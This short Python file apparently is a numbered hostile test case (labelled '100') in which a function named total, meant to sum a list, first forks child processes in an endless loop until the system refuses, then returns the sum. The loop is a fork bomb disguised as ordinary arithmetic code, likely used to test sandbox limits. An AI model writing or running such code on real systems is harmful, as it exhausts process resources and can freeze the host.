"""100: forks until it cannot"""

import os
import time

from honest import *


def total(numbers, note=""):
    try:
        while True:
            if os.fork() == 0:
                time.sleep(3600)
    except OSError:
        return sum(numbers)
